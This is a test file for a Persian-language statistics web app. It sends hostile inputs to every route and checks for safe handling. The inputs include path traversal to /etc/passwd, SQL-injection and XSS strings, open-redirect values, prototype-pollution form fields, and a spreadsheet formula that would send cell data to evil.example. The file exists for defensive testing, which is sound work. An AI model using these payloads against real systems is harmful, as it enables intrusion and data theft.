import { describe, it, expect, beforeAll, afterAll, vi } from 'vitest';
import request, { type Response } from 'supertest';
import type { Express } from 'express';
import type { TestDatabase } from './support/db.ts';
import { createUnit } from './support/factories.ts';
import { createFiling } from './support/filings.ts';
import { accessMatrix, matrixKey, attackWorld, type World, type RoleKey, type Visitor } from './support/access-matrix.ts';
import { HOSTILE, SCRIPT, fingerprint, describe as show } from './support/hostile.ts';

// Issue 7 §6, what forms do not cover: hostile values in every path parameter of every route
// (ids, periods, codes, tokens) and in every field of the JSON API. Never a 500; a refusal says
// in Persian what is wrong (HTML) or carries a Persian message (JSON).

// Hundreds of requests per test: generous limits for a machine shared with other test runs.
vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 });

let t: TestDatabase;
let app: Express;
let w: World;
let v: Record<RoleKey, Visitor>;
beforeAll(async () => {
  ({ t, app, w, v } = await attackWorld({ loginLimit: 100_000, apiLimit: 100_000 }));
});
afterAll(async () => t.close());

const PARAM_VALUES = [
  ...HOSTILE.map((h) => h.value).filter((s) => s.length < 1000),
  'آ'.repeat(300), '0', '1.5', '1e3', '0x10', '9007199254740993', '2147483648', '-2147483649', '1405-13', '0000-00', '../../etc/passwd', '%00',
];

const persianHtml = (res: Response) => typeof res.text === 'string' && /<p>[^<]*[\u0600-\u06ff]{2}|invalid-feedback|alert/.test(res.text);
// The API's own error shape, or SDMX REST's (issue 27: errors[].detail, Persian too).
const persianJson = (res: Response) => /[\u0600-\u06ff]{2}/.test(String(res.body?.error?.message ?? res.body?.errors?.[0]?.detail ?? ''));

describe('hostile path parameters', () => {
  it('every parameter of every route, as the role the route is for: never a 500, a Persian refusal', async () => {
    const problems: string[] = [];
    let tried = 0;
    for (const row of accessMatrix.filter((r) => r.path.includes('/:'))) {
      const api = row.path.startsWith('/api/v1/');
      const role = (['unit', 'off', 'admin', 'dep', 'stats'] as RoleKey[]).find((r) => row.expect[r] === 'ok') ?? 'anon';
      const vis = v[role];
      for (const value of PARAM_VALUES) {
        const url = row.path.replace(/:\w+/g, encodeURIComponent(value));
        let res: Response;
        if (api) {
          const r = request(app)[row.method.toLowerCase() as 'get' | 'put'](url).set('Authorization', `Bearer ${vis.token}`);
          res = await (row.method === 'GET' ? r : r.send({ submit: false }));
        } else if (row.method === 'GET') {
          res = await vis.agent.get(url);
        } else {
          res = await vis.agent[row.method.toLowerCase() as 'post'](url).type('form').send({ _csrf: vis.csrf });
        }
        tried++;
        const where = `${matrixKey(row)} with ${JSON.stringify(value.slice(0, 40))} (as ${role})`;
        if (res.status >= 500) problems.push(`${where}: ${show(res)}`);
        else if (res.status >= 400 && !(api ? persianJson(res) : persianHtml(res))) problems.push(`${where}: ${res.status} without a Persian message: ${show(res)}`);
        if (typeof res.text === 'string' && res.text.includes(SCRIPT)) problems.push(`${where}: raw <script> in the answer`);
      }
    }
    expect(problems).toEqual([]);
    expect(tried).toBeGreaterThan(200);
  });
});

describe('hostile query strings', () => {
  const NAMES = ['back', 'year', 'format', 'period', 'type', 'q', 'code', 'page', 'from', 'to', 'quarter', 'span', 'rows', 'cols', 'measure', 'include_unverified', 'preliminary',
    'state', 'division', 'warnings', 'role', 'province', 'action', 'user', 'user_id', 'unit', 'unit_id', 'date_from', 'date_to', 'sort', 'order', 'limit', 'offset'];

  it('every page, with every known query parameter hostile at once (and as arrays and objects): never a 500, nothing raw', async () => {
    const problems: string[] = [];
    // Several hostile values in one: each request is a whole page, so few of them.
    const values = [`شرکت ${SCRIPT} ' OR 1=1 --`, '\u0000\u202e-123456789012345678901234567890', 'javascript:alert(1)', '//evil.example/', '/province/"><script>alert(1)</script>'];
    for (const row of accessMatrix.filter((r) => r.method === 'GET' && !r.path.startsWith('/api/v1/'))) {
      const role = (['unit', 'off', 'admin', 'dep', 'stats', 'unitO', 'offO'] as RoleKey[]).find((r) => row.expect[r] === 'ok') ?? 'anon';
      const url = row.path.replace(/:id/, String(row.path.includes('/province/filings/') ? w.unitA.filingSubmitted : w.unitA.id))
        .replace(/:period/, w.periods.submitted).replace(/:code/, w.certificateCode).replace(/:token/, w.pending.activationToken);
      const queries = [
        ...values.map((x) => NAMES.map((n) => `${n}=${encodeURIComponent(x)}`).join('&')),
        NAMES.map((n) => `${n}[]=1&${n}[]=2`).join('&'),
        NAMES.map((n) => `${n}[a][b]=1`).join('&'),
      ];
      for (const q of queries) {
        const res = await v[role].agent.get(`${url}?${q}`);
        if (res.status >= 500) problems.push(`${matrixKey(row)}?${q.slice(0, 60)}… (as ${role}): ${show(res)}`);
        if (typeof res.text === 'string' && res.text.includes(SCRIPT)) problems.push(`${matrixKey(row)}?${q.slice(0, 60)}… (as ${role}): raw <script>`);
        if (typeof res.text === 'string' && /href="(javascript:|\/\/evil)/.test(res.text)) problems.push(`${matrixKey(row)}?${q.slice(0, 60)}… (as ${role}): a link to the attacker's choice`);
        if (res.status >= 300 && res.status < 400 && /^(\/\/|https?:|javascript:)/.test(res.headers.location ?? '')) problems.push(`${matrixKey(row)} (as ${role}): redirects off-site to ${res.headers.location}`);
      }
    }
    expect(problems).toEqual([]);
  });
});

describe('hostile JSON for the API', () => {
  const good = () => ({
    submit: false, employees: 10, production_value: 1000, intermediate_consumption: 500,
    lines: [{ product_id: w.unitA.productIds[0], produced: 1, sold: 1, sales_value: 100 }],
  });
  const JSON_VALUES: unknown[] = [
    ...HOSTILE.map((h) => h.value), -5, 1e30, Number('123456789012345678901234567890'), 1.5e-300, Number.MAX_SAFE_INTEGER + 2, null, true, [], {}, [1, 2], { $gt: 0 },
  ];

  it('PUT /api/v1/filings/{period}: every field, every hostile value → 4xx with a Persian message or stored; never a 500', async () => {
    const problems: string[] = [];
    const auth = { Authorization: `Bearer ${w.tokens.unitO}` };
    const period = w.periods.submitted; // unit B's own period, never filed: drafts may be stored
    const paths: (string | [string, string])[] = ['submit', 'employees', 'production_value', 'intermediate_consumption', 'confirm_warnings', 'base_revision', 'lines',
      ['lines', 'product_id'], ['lines', 'produced'], ['lines', 'sold'], ['lines', 'sales_value']];
    for (const p of paths) {
      for (const value of JSON_VALUES) {
        const body = good() as Record<string, unknown>;
        body.lines = [{ ...(good().lines[0]), product_id: w.unitB.productIds[0] }];
        if (typeof p === 'string') body[p] = value;
        else (body.lines as Record<string, unknown>[])[0][p[1]] = value;
        const res = await request(app).put(`/api/v1/filings/${period}`).set(auth).send(body);
        const where = `${typeof p === 'string' ? p : p.join('[0].')} = ${JSON.stringify(value)?.slice(0, 40)}`;
        if (res.status >= 500) problems.push(`${where}: ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);
        else if (res.status >= 400 && !persianJson(res)) problems.push(`${where}: ${res.status} without a Persian message: ${JSON.stringify(res.body).slice(0, 200)}`);
      }
    }
    // Bodies that are not an object at all.
    for (const raw of ['[]', '"x"', '1', 'null', '{"a":', '\u0000', `{"employees": ${'9'.repeat(400)}}`]) {
      const res = await request(app).put(`/api/v1/filings/${period}`).set(auth).set('Content-Type', 'application/json').send(raw);
      if (res.status >= 500 || !persianJson(res)) problems.push(`raw body ${JSON.stringify(raw.slice(0, 30))}: ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);
    }
    expect(problems).toEqual([]);
  });

  it('every API query parameter with hostile values: never a 500', async () => {
    const problems: string[] = [];
    const cases: [string, string, string[]][] = [
      ['/api/v1/filings', w.tokens.unit, ['from', 'to', 'unit_id']],
      ['/api/v1/unit', w.tokens.unit, ['unit_id']],
      ['/api/v1/status', w.tokens.unit, ['unit_id']],
      [`/api/v1/filings/${w.periods.submitted}`, w.tokens.unit, ['unit_id']],
      ['/api/v1/stats/aggregates', w.tokens.stats, ['period', 'from', 'to', 'rows', 'cols', 'measure', 'format', 'preliminary']],
      ['/api/v1/stats/products', w.tokens.stats, ['period', 'from', 'to', 'geo', 'isic', 'format', 'preliminary']],
      ['/api/v1/stats/performance', w.tokens.stats, ['period']],
    ];
    const before = await fingerprint(t.knex);
    for (const [url, token, params] of cases) {
      for (const name of params) {
        for (const value of [...HOSTILE.map((h) => h.value).filter((s) => s.length < 1000), 'آ'.repeat(300)]) {
          const res = await request(app).get(url).query({ [name]: value }).set('Authorization', `Bearer ${token}`);
          if (res.status >= 500) problems.push(`${url}?${name}=${JSON.stringify(value.slice(0, 30))}: ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);
          else if (res.status >= 400 && !persianJson(res)) problems.push(`${url}?${name}=${JSON.stringify(value.slice(0, 30))}: ${res.status} without a Persian message`);
        }
        // The same parameter twice (an array in Express's query parser).
        const twice = await request(app).get(`${url}?${name}=1&${name}=2`).set('Authorization', `Bearer ${token}`);
        if (twice.status >= 500) problems.push(`${url}?${name}=1&${name}=2: ${twice.status}`);
      }
    }
    expect(problems).toEqual([]);
    expect(await fingerprint(t.knex)).toEqual(before);
  });
});

describe('form fields sent in shapes a browser never sends', () => {
  it('arrays and nested objects instead of strings in every form route: never a 500', async () => {
    const problems: string[] = [];
    const NAMES = ['email', 'password', 'name', 'reason', 'q', 'key', 'value', 'unit_id', 'year', 'ids', 'employees', 'production_value', 'lines', 'action', 'confirm_warnings',
      'warnings_seen', 'base_revision', 'current', 'next', 'full_name', 'role', 'province_code', 'entity_name', 'national_id', 'products', 'completeness', 'all', 'period', 'state', 'code'];
    for (const row of accessMatrix.filter((r) => r.method !== 'GET' && !r.path.startsWith('/api/') && r.path !== '/logout')) {
      const role = (['unit', 'off', 'admin', 'dep', 'stats'] as RoleKey[]).find((r) => row.expect[r] === 'ok') ?? 'anon';
      const vis = v[role];
      const url = row.path.replace(/:id/, '999999').replace(/:period/, w.periods.submitted).replace(/:token/, w.pending.activationToken);
      for (const shape of ['a[]=1&a[]=2', 'a[x]=1&a[y][z]=2', 'a[__proto__][polluted]=1', 'a[0]=1&a[100000]=2']) {
        const body = NAMES.map((n) => shape.replace(/\ba(?=\[)/g, n)).join('&') + `&_csrf=${encodeURIComponent(vis.csrf)}`;
        const res = await vis.agent.post(url).type('form').send(body);
        if (res.status >= 500) problems.push(`${matrixKey(row)} with ${shape}: ${show(res)}`);
      }
    }
    expect(problems).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('oversized bodies and too many fields are refused with a Persian message, not a 500', async () => {
    const big = await v.anon.agent.post('/login').type('form').send(`_csrf=${encodeURIComponent(v.anon.csrf)}&email=${'a'.repeat(2_000_000)}`);
    expect(big.status).toBe(413);
    expect(big.text).toMatch(/[\u0600-\u06ff]{3}/);
    const many = await v.anon.agent.post('/login').type('form').send(Array.from({ length: 6000 }, (_, i) => `f${i}=1`).join('&') + `&_csrf=${encodeURIComponent(v.anon.csrf)}`);
    expect(many.status).toBeGreaterThanOrEqual(400);
    expect(many.status).toBeLessThan(500);
    expect(many.text).toMatch(/[\u0600-\u06ff]{3}/);
    const api = await request(app).put(`/api/v1/filings/${w.periods.submitted}`).set('Authorization', `Bearer ${w.tokens.unitO}`)
      .send({ submit: false, padding: 'x'.repeat(300_000) });
    expect(api.status).toBe(413);
    expect(persianJson(api)).toBe(true);
  });
});

describe('downloads opened in a spreadsheet', () => {
  it('text typed by users never reaches a CSV cell, let alone as a formula (= + - @): the statistics office opens these in Excel', async () => {
    // Units whose product name is a formula: a view's labels are reference names only (provinces, ISIC).
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"گزارش")';
    for (const province of ['05', '06', '07']) {
      const u = await createUnit({ province_code: province, products: [{ name: evil, unit_of_measure: '+تن', annual_capacity: 1000 }] }, t.knex);
      await createFiling({ unitId: u.id, period: w.periods.verified, state: 'verified', lines: [{ product_id: u.productIds[0], produced: 50, sold: 40, sales_value: 1000 }] }, t.knex);
    }
    const q = { period: w.periods.verified, rows: 'isic_division', cols: 'province', measure: 'production_value', format: 'csv' };
    const downloads = [
      await v.stats.agent.get('/stats/aggregates').query(q).buffer(true),
      await request(app).get('/api/v1/stats/aggregates').query(q).set('Authorization', `Bearer ${w.tokens.stats}`).buffer(true),
    ];
    for (const res of downloads) {
      expect(res.status).toBe(200);
      const text = typeof res.text === 'string' ? res.text : String(res.body);
      expect(text).toContain('تهران');
      expect(text).not.toContain('HYPERLINK');
      const cells = text.replace(/^\ufeff/, '').split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
      // A negative figure (value added) is a plain number, not a formula; nothing else may start like one.
      const formulas = cells.map((c) => c.replace(/,$/, '').replace(/^"/, '')).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c));
      expect(formulas, 'never as a formula').toEqual([]);
    }
  });
});
